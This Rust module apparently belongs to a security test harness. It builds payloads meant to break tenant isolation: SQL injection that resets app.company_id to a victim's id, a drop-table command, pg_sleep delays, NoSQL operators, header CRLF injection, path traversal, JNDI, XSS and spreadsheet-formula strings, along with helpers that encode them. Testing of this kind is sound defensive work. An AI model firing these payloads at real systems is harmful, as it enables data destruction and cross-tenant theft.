//! The payloads that replace values.

use url::form_urlencoded::byte_serialize;

/// Texts with a meaning for a database, a template, a shell, a browser or a parser of numbers. `{}` is the id of the
/// victim company.
const TEXTS: &[&str] = &[
    "'; SET app.company_id = '{}'; --",
    "'; SET LOCAL app.company_id = '{}'; select '1",
    "'; select set_config('app.company_id', '{}', false); --",
    "x'); COMMIT; SET app.company_id = '{}'; BEGIN; --",
    "' or '1'='1",
    "' or 1=1 --",
    "1) or (1=1",
    "\" or \"\"=\"",
    "' union select name, null from accounts --",
    "'; reset role; --",
    "'; drop table accounts cascade; --",
    // Longer than any client's timeout.
    "'; select pg_sleep(60); --",
    "'||(select pg_sleep(60))||'",
    "{} or company_id = '{}'",
    "$1",
    "$$;select 1;$$",
    "?",
    ":name",
    "%s%n%x",
    "\\",
    "\\'",
    "'",
    "''",
    "`",
    "%",
    "_",
    "*",
    "%'{}'%",
    "$ne",
    "{\"$ne\": null}",
    "{\"$gt\": \"\"}",
    "[\"a\"]",
    "[object Object]",
    "\\u0000",
    "\0",
    "a\0b",
    "\r\nX-Injected: yes",
    "a\nb",
    // Characters that look like a quote, or become one by folding.
    "\u{2019} or 1=1 --",
    "\u{02bc} or 1=1 --",
    "\u{ff07} or 1=1 --",
    "\u{feff}",
    "\u{202e}evil",
    "\u{0130}\u{0131}\u{00df}\u{fb01}",
    "e\u{0301}\u{0301}\u{0301}\u{0301}",
    "\u{1f4a9}\u{200d}\u{1f4a9}",
    "\u{10ffff}\u{fffd}",
    "null",
    "undefined",
    "NaN",
    "Infinity",
    "true",
    "-1",
    "0x10",
    "1e309",
    "99999999999999999999999999",
    "9223372036854775808",
    "0001-01-01T00:00:00Z",
    "294277-01-01T00:00:00Z",
    "2026-13-45",
    "00000000-0000-0000-0000-000000000000",
    "{}",
    ",",
    ",,,,",
    "a,b,' or '1'='1",
    "../../etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://127.0.0.1/x}",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
];

/// Bytes that a client with proper encoding never sends.
const RAW: &[&str] =
    &["%", "%z", "%zz", "%u0027", "%c0%27", "%c0%ae", "%ff", "%ed%a0%80", "%2527", "+", ";", "&", "="];

/// Every text payload.
pub(super) fn texts(victim: &str) -> Vec<String> {
    let mut texts: Vec<_> = TEXTS.iter().map(|text| text.replace("{}", victim)).collect();
    texts.push("a".repeat(8_000));
    texts.push("'".repeat(2_000));
    texts
}

/// The same, percent-encoded for a query or a path.
pub(super) fn encoded(victim: &str) -> Vec<String> {
    let texts = texts(victim);
    let encoded =
        texts.iter().map(|text| byte_serialize(text.as_bytes()).collect::<String>().replace('+', "%20"));
    encoded.chain(RAW.iter().map(|&raw| raw.to_owned())).collect()
}

/// Those that are valid in a header.
pub(super) fn for_headers(victim: &str) -> Vec<String> {
    texts(victim).into_iter().filter(|text| !text.chars().any(char::is_control)).collect()
}
